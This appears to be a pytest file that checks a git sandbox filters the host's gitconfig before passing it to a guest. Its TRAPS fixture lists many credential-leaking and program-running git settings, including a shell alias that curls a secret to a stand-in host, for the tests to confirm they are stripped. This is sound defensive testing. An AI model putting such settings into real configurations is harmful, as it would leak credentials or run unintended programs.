"""The user's own configuration, as far as it goes into a guest."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from git_sandbox.errors import RepositoryError
from git_sandbox.git.repo import discover
from git_sandbox.workspace import guest_gitconfig
from git_sandbox.workspace.guest_gitconfig import effective
from support.captured import take
from support.gitrepo import GitRepo

SECRET = "hunter2"  # noqa: S105 - looked for, never used
TRAPS = f"""
[credential]
    helper = store --file /{SECRET}
[credential "https://{SECRET}@host.invalid"]
    username = {SECRET}
[http]
    extraHeader = Authorization: {SECRET}
    cookieFile = /{SECRET}
    proxy = http://u:{SECRET}@proxy.invalid
[http "https://host.invalid/"]
    sslKey = /{SECRET}
[url "https://u:{SECRET}@host.invalid/"]
    insteadOf = https://host.invalid/
[url "https://host.invalid/?private_token={SECRET}"]
    insteadOf = q:
[url "https://host.invalid/"]
    insteadOf = https://u:{SECRET}@other.invalid/
[gc]
    recentObjectsHook = {SECRET}
[mailmap]
    file = /{SECRET}
[sendemail]
    smtpPass = {SECRET}
[github]
    token = {SECRET}
[user]
    signingKey = {SECRET}
[gpg]
    program = /{SECRET}
[commit]
    gpgSign = true
    template = /{SECRET}
[alias]
    leak = !curl -H {SECRET} host.invalid
    header = -c http.extraHeader=Authorization:{SECRET} fetch
    push-there = push https://u:{SECRET}@host.invalid/a
[color "token"]
    secret = {SECRET}
[rebase]
    apiToken = {SECRET}
[core]
    sshCommand = ssh -i {SECRET}
    editor = {SECRET}
    pager = {SECRET}
    askPass = {SECRET}
    hooksPath = /{SECRET}
    gitProxy = {SECRET}
[diff]
    external = {SECRET}
[diff "x"]
    textconv = {SECRET}
    command = {SECRET}
[merge "x"]
    driver = {SECRET}
[merge]
    tool = {SECRET}
[filter "other"]
    clean = {SECRET}
[filter "lfs"]
    process = {SECRET}/git-lfs filter-process
[format]
    signatureFile = /{SECRET}
[log]
    showSignature = true
[blame]
    ignoreRevsFile = /{SECRET}
[include]
    path = /{SECRET}
[init]
    templateDir = /{SECRET}
[pager]
    log = {SECRET}
[interactive]
    diffFilter = {SECRET}
[sequence]
    editor = {SECRET}
[remote "origin"]
    url = https://{SECRET}@host.invalid/a
"""


@pytest.fixture
def home() -> Path:
    return Path(os.environ["HOME"])


def environ(home: Path, **extra: str) -> dict[str, str]:
    return {"HOME": os.fspath(home), "GIT_CONFIG_NOSYSTEM": "1", **extra}


def append(file: Path, text: str) -> None:
    file.parent.mkdir(parents=True, exist_ok=True)
    with file.open("a") as config:
        config.write(text)


def as_guest(repo: GitRepo, files: dict[str, bytes], root: Path, *args: str) -> str:
    """git with what the guest has below /etc, and nothing else of the host's."""
    config = files["/etc/gitconfig"].replace(b"/etc/git-sandbox", os.fsencode(root / "etc/git-sandbox"))
    for name, content in {**files, "/etc/gitconfig": config}.items():
        (root / name[1:]).parent.mkdir(parents=True, exist_ok=True)
        (root / name[1:]).write_bytes(content)
    done = subprocess.run(
        ["git", *args],
        cwd=repo.path,
        env={
            "PATH": os.environ["PATH"], "HOME": os.fspath(root / "home"), "GIT_CONFIG_GLOBAL": "/dev/null",
            "GIT_CONFIG_SYSTEM": os.fspath(root / "etc/gitconfig"),
        },
        capture_output=True,
        check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout.decode()


def test_no_secret_and_no_host_program_ever(repo: GitRepo, home: Path) -> None:
    append(home / ".gitconfig", TRAPS)
    config = effective(discover(repo.path), environ(home))
    assert SECRET not in repr(config)
    assert all(SECRET.encode() not in content for content in config.files().values())
    assert dict(config.pairs).keys() == {
        "user.name", "user.email", "init.defaultbranch", "advice.detachedhead", "protocol.file.allow",
    }  # fmt: skip


def test_what_makes_git_behave_the_same_comes_along(repo: GitRepo, home: Path, tmp_path: Path) -> None:
    append(
        home / ".gitconfig",
        "[alias]\n\tst = status --short\n[pull]\n\trebase = true\n[merge]\n\tconflictStyle = zdiff3\n"
        '[core]\n\tautocrlf = input\n[color "status"]\n\tadded = green bold\n[rerere]\n\tenabled\n'
        '[filter "lfs"]\n\tclean = git-lfs clean -- %f\n\trequired = true\n',
    )
    files = effective(discover(repo.path), environ(home)).files()
    for key, value in {
        "alias.st": "status --short", "pull.rebase": "true", "merge.conflictStyle": "zdiff3", "user.name": "Test User",
        "core.autocrlf": "input", "color.status.added": "green bold", "filter.lfs.clean": "git-lfs clean -- %f",
        "filter.lfs.required": "true", "core.checkStat": "minimal", "commit.gpgSign": "false", "safe.directory": "*",
    }.items():  # fmt: skip
        assert as_guest(repo, files, tmp_path / "root", "config", key) == f"{value}\n"
    assert as_guest(repo, files, tmp_path / "root", "config", "--type=bool", "rerere.enabled") == "true\n"


def test_conditional_includes_are_resolved_on_the_host(repo: GitRepo, home: Path, tmp_path: Path) -> None:
    append(home / ".gitconfig", f'[includeIf "gitdir:{repo.path}/"]\n\tpath = work\n')
    append(home / "work", "[user]\n\temail = work@example.com\n")
    files = effective(discover(repo.path), environ(home)).files()
    assert as_guest(repo, files, tmp_path / "root", "config", "user.email") == "work@example.com\n"


def test_settings_of_the_repository_travel_with_it_and_its_includes_from_outside_here(
    repo: GitRepo, home: Path
) -> None:
    repo.git("config", "user.email", "local@example.com")
    repo.git("config", "include.path", os.fspath(home / "team"))
    append(home / "team", f"[pull]\n\tff = only\n[github]\n\ttoken = {SECRET}\n")
    pairs = effective(discover(repo.path), environ(home)).pairs
    assert ("user.email", "local@example.com") not in pairs
    assert ("pull.ff", "only") in pairs
    assert SECRET not in repr(pairs)


def test_identity_and_settings_of_the_environment(repo: GitRepo, home: Path) -> None:
    config = effective(
        discover(repo.path),
        environ(
            home, GIT_AUTHOR_NAME="Another Author", GIT_COMMITTER_EMAIL="c@example.com", GIT_AUTHOR_DATE="1",
            GIT_CONFIG_COUNT="1", GIT_CONFIG_KEY_0="pull.ff", GIT_CONFIG_VALUE_0="false", GIT_DIR="/nowhere",
        ),
    )  # fmt: skip
    assert ("author.name", "Another Author") in config.pairs
    assert ("committer.email", "c@example.com") in config.pairs
    assert ("pull.ff", "false") in config.pairs
    assert config.identity == (("GIT_AUTHOR_NAME", "Another Author"), ("GIT_COMMITTER_EMAIL", "c@example.com"))


def test_without_an_environment_the_curated_one_counts(repo: GitRepo) -> None:
    assert ("user.name", "Test User") in effective(discover(repo.path)).pairs


@pytest.mark.parametrize("named", [True, False])
def test_ignore_rules_and_attributes_of_the_user(repo: GitRepo, home: Path, tmp_path: Path, named: bool) -> None:
    if named:
        append(home / ".gitconfig", "[core]\n\texcludesFile = ~/my-ignore\n\tattributesFile = ~/my-attributes\n")
    append(home / "my-ignore" if named else home / ".config/git/ignore", ".idea/\n")
    append(home / "my-attributes" if named else home / ".config/git/attributes", "*.x diff=mine\n")
    repo.write(".idea/workspace")
    files = effective(discover(repo.path), environ(home)).files()
    assert as_guest(repo, files, tmp_path / "root", "status", "--porcelain") == ""
    assert as_guest(repo, files, tmp_path / "root", "check-attr", "diff", "a.x") == "a.x: diff: mine\n"


def test_an_excludes_file_that_is_missing_or_switched_off_is_nothing(repo: GitRepo, home: Path) -> None:
    append(home / ".config/git/ignore", "*\n")
    append(home / ".gitconfig", "[core]\n\texcludesFile =\n\tattributesFile = ~/nowhere\n")
    config = effective(discover(repo.path), environ(home))
    assert config.contents == ()
    assert set(config.files()) == {"/etc/gitconfig"}


def test_an_oversized_ignore_file_and_a_broken_configuration_are_errors(repo: GitRepo, home: Path) -> None:
    append(home / ".config/git/ignore", "x\n" * guest_gitconfig.MAX_FILE)
    with pytest.raises(RepositoryError, match="larger than"):
        effective(discover(repo.path), environ(home))
    found = discover(repo.path)
    append(home / ".gitconfig", "[broken\n")
    with pytest.raises(RepositoryError) as caught:
        effective(found, environ(home))
    assert "bad config" in caught.value.cause


def test_a_copy_is_clean_in_the_guest_whatever_the_user_configured(repo: GitRepo, home: Path, tmp_path: Path) -> None:
    append(home / ".gitconfig", "[core]\n\tautocrlf = true\n")
    repo.commit("crlf", {"dos": b"a\r\nb\r\n"})
    repo.git("config", "commit.gpgSign", "true")
    copy, _ = take(repo, tmp_path / "copy")
    files = effective(discover(repo.path), environ(home)).files()
    assert as_guest(copy, files, tmp_path / "root", "status", "--porcelain") == ""
    as_guest(copy, files, tmp_path / "root", "commit", "-q", "--allow-empty", "-m", "unsigned")
    assert copy.git("log", "-1", "--format=%an <%ae>") == "Test User <test@example.com>"


def test_a_remote_means_the_same_repository_on_both_sides(repo: GitRepo, home: Path, tmp_path: Path) -> None:
    append(
        home / ".gitconfig",
        '[url "https://example.org/"]\n\tinsteadOf = x:\n[url "ssh://git@example.org/"]\n\tpushInsteadOf = x:\n'
        '[url "git@example.org:"]\n\tinsteadOf = "work:"\n',
    )
    files = effective(discover(repo.path), environ(home)).files()
    for remote in ("x:a/b", "work:c"):
        words = ("git", "ls-remote", "--get-url", remote)
        env = environ(home, PATH=os.environ["PATH"])
        here = subprocess.run(words, cwd=repo.path, env=env, capture_output=True, check=True).stdout.decode()
        assert as_guest(repo, files, tmp_path / "root", *words[1:]) == here != f"{remote}\n"


def test_the_files_that_settings_name_go_in_with_their_content(repo: GitRepo, home: Path, tmp_path: Path) -> None:
    append(home / ".gitconfig", f"[commit]\n\ttemplate = ~/template\n[mailmap]\n\tfile = {home}/names\n")
    append(home / "template", "Why: \n")
    append(home / "names", "New Name <new@example.com> <test@example.com>\n")
    files = effective(discover(repo.path), environ(home)).files()
    named = as_guest(repo, files, tmp_path / "root", "config", "commit.template").strip()
    assert Path(named).read_text() == "Why: \n"
    assert as_guest(repo, files, tmp_path / "root", "log", "-1", "--format=%aN") == "New Name\n"


def test_a_fifo_in_the_place_of_such_a_file_holds_nobody_up(repo: GitRepo, home: Path) -> None:
    append(home / ".gitconfig", "[core]\n\texcludesFile = ~/fifo\n")
    os.mkfifo(home / "fifo")
    assert effective(discover(repo.path), environ(home)).contents == ()
